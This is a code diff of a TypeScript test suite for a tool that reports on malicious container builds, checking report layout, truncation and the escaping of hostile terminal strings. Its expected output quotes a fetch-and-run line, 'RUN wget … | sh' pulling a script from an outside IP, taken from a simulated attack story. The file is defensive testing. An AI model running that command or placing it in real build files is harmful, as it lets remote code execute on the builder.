@@ -1,37 +1,21 @@
 import { assert, property, string } from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { fold } from '../correlate/fixtures/fold.js';
-import { buildkitAttack, classicAttack } from '../correlate/fixtures/stories.js';
+import { buildkitAttack } from '../correlate/fixtures/stories.js';
 import type { Json } from '../model/row.js';
+import { broken, infected, partsOf } from './fixtures/parts.js';
 import { buildsTable, incidentsTable } from './listings.js';
 import { paletteFor, plain } from './palette.js';
+import { brief, full } from './parts.js';
 import { columnsOf } from './printable.js';
-import { buildReport, incidentReport } from './report.js';
+import { textOf } from './render/text.js';
+import { buildDocument, incidentDocument } from './report.js';
 import { summaryLine } from './summary.js';
 
-const style = { palette: plain, width: 100 };
-
-function parts(story = classicAttack()) {
-  const told = fold(story, { until: 60 });
-  const [incident] = told.incidents.values();
-  const [build] = told.builds.values();
-  if (!incident || !build) throw new Error('the story gives no incident');
-  return { incident, build, steps: [...told.steps.values()], alerts: [...told.alerts.values()] };
-}
-
-/** The same rows with a text put in place of every string, however deep. */
-function infected<T>(value: T, text: string): T {
-  const walk = (json: unknown): unknown => {
-    if (typeof json === 'string') return json + text;
-    if (Array.isArray(json)) return json.map(walk);
-    if (json === null || typeof json !== 'object') return json;
-    return Object.fromEntries(Object.entries(json).map(([key, each]) => [key, walk(each)]));
-  };
-  return walk(value as Json) as T;
-}
+const style = { palette: plain, width: 100, isDense: true };
 
 describe('the report of an incident', () => {
-  const lines = incidentReport(parts(), style);
+  const parts = partsOf();
+  const lines = textOf(incidentDocument(parts, brief), style);
   const text = lines.join('\n');
 
   it('says who, with what, step by step, what came out, what ran, and so what', () => {
@@ -40,48 +24,110 @@ describe('the report of an incident', () => {
       'mallory (uid 1000), logged in as uid 1000',
       'docker build -t evil --build-arg TOKEN=*** /tmp/x',
       'bash (101) → docker (104)',
-      '│ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
+      '3 │ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
+      "read from the client's disk",
       '→ 203.0.113.9:8000 by wget',
       'exit 0',
       'evil:latest',
-      'run_60 at 10:00:05.200 from its image',
-      'by docker run -d evil',
-      'score 13, confidence high',
-      '+3 Built from a temporary directory: /tmp/x. [temp-path]',
+      'registry.example/evil:1 pushed',
+      'run_60 (003c003c003c) at 2026-11-22 10:00:05 from its image',
+      'by mallory: docker run -d evil',
+      'High, score 13, confidence high',
+      '+3 Built from a temporary directory: /tmp/x.',
       'T1059.004, T1105, T1204.003, T1571, T1610, T1612',
-      'Timeline  UTC',
     ]) {
       expect(text).toContain(part);
     }
   });
 
-  it('keeps to the width', () => {
-    for (const line of incidentReport(parts(), { ...style, width: 72 })) {
-      expect(columnsOf(line)).toBeLessThanOrEqual(72);
+  it('fits on a screen, and keeps to its width', () => {
+    expect(lines.length).toBeLessThan(50);
+    for (const width of [72, 100]) {
+      for (const line of textOf(incidentDocument(parts, brief), { ...style, width }))
+        expect(columnsOf(line)).toBeLessThanOrEqual(width);
     }
   });
 
+  it('stays as short when there is ten times as much, and says what it left out', () => {
+    const { built } = parts;
+    const [step] = built.steps;
+    if (!step) throw new Error('no step');
+    const many = <T>(one: T): T[] => Array.from({ length: 300 }, () => one);
+    const [process] = step.Processes as Json[];
+    const [connection] = step.Connections as Json[];
+    const large = {
+      ...step,
+      Processes: many(process ?? null),
+      Connections: many(connection ?? null),
+    };
+    const Dockerfile = many('RUN true').join('\n');
+    const grown = {
+      ...parts,
+      built: {
+        ...built,
+        build: { ...built.build, Dockerfile },
+        steps: Array.from({ length: 300 }, () => ({ ...large })),
+      },
+    };
+    const shown = textOf(incidentDocument(grown, brief), style);
+    expect(shown.length).toBeLessThan(90);
+    expect(shown.join('\n')).toContain('296 more steps');
+    expect(shown.join('\n')).toContain('… 292 more lines');
+  });
+
+  it('has everything else in full', () => {
+    const whole = textOf(incidentDocument(parts, full), { ...style, isDense: false }).join('\n');
+    for (const part of [
+      'Timeline  UTC',
+      'GET /info?a=b',
+      'wrote /run.sh',
+      'some-rule: Title; detail',
+      '[temp-path]',
+    ])
+      expect(whole).toContain(part);
+  });
+
   it('says when the build is not stored any more', () => {
-    const { incident } = parts();
-    const bare = incidentReport({ incident, build: undefined, steps: [], alerts: [] }, style);
+    const bare = textOf(incidentDocument({ ...parts, built: undefined, alerts: [] }, brief), style);
     expect(bare.join('\n')).toContain('not stored any more');
+  });
+
+  it('marks the lines of a long Dockerfile that matter, with those around them', () => {
+    const { built } = parts;
+    const Dockerfile = Array.from({ length: 400 }, (_, i) => `RUN echo ${i + 1}`).join('\n');
+    const finding = {
+      Rule: 'piped-download',
+      Severity: 'High',
+      Line: 200,
+      Message: 'runs a download',
+    };
+    const AdditionalFields = {
+      ...(built.build.AdditionalFields as object),
+      DockerfileFindings: [finding],
+    };
+    const marked = { ...built, build: { ...built.build, Dockerfile, AdditionalFields } };
+    const shown = textOf(buildDocument(marked, brief), style).join('\n');
+    expect(shown).toContain(' 199 │ RUN echo 199\n   200 ▶ RUN echo 200\n');
+    expect(shown).toContain('^ High: runs a download [piped-download]');
   });
 });
 
 describe('hostile strings', () => {
-  const all = parts(buildkitAttack());
+  const all = partsOf(buildkitAttack());
 
   it('never reach the terminal raw, in any column', () => {
     assert(
       property(string({ unit: 'binary', maxLength: 12 }), (noise) => {
         const hostile = `\u001b[2J\u009b\u202e\n\r${noise}`;
-        const { incident, build, steps } = infected(all, hostile);
+        const parts = infected(all, hostile);
+        const { incident, built } = parts;
         const lines = [
-          ...incidentReport({ incident, build, steps, alerts: [] }, style),
-          ...buildReport({ build, steps }, style),
-          ...buildsTable([build], plain, 100),
+          ...textOf(incidentDocument(parts, brief), style),
+          ...textOf(incidentDocument(parts, full), { ...style, isDense: false }),
+          ...textOf(buildDocument(built, full), style),
+          ...buildsTable([built.build], plain, 100),
           ...incidentsTable([incident], plain, 100),
-          summaryLine({ table: 'ImageBuilds', row: build }, { palette: plain, width: 100 }),
+          summaryLine({ table: 'ImageBuilds', row: built.build }, { palette: plain, width: 100 }),
           summaryLine({ table: 'Incidents', row: incident }, { palette: plain }),
           summaryLine({
             table: 'Alerts',
@@ -105,36 +151,15 @@ describe('hostile strings', () => {
   });
 
   it('do not break a report whose columns hold something else than expected', () => {
-    const { incident, build } = all;
     for (const junk of [null, 'text', 7, [null, 7, ['x']], { a: [1] }] as Json[]) {
-      const broken = {
-        incident: { ...incident, Evidence: junk, Timeline: junk, Unknowns: junk, Techniques: junk },
-        build: {
-          ...build,
-          AdditionalFields: junk,
-          RequesterProcessChain: junk,
-          Tags: junk,
-          RemoteAddresses: junk,
-        },
-        steps: [
-          {
-            TimeGenerated: 0,
-            BuildId: 'b',
-            StepId: 's',
-            Processes: junk,
-            Connections: junk,
-            AdditionalFields: junk,
-          },
-        ],
-        alerts: [],
-      };
-      expect(incidentReport(broken, style).length).toBeGreaterThan(10);
+      expect(textOf(incidentDocument(broken(all, junk), full), style).length).toBeGreaterThan(10);
     }
   });
 });
 
 describe('listings', () => {
-  const { build, incident } = parts();
+  const { incident, built } = partsOf();
+  const { build } = built;
 
   it('are aligned, and cut to the width', () => {
     const rows = [build, { ...build, AccountName: 'a'.repeat(80), Tags: ['t'.repeat(200)] }];
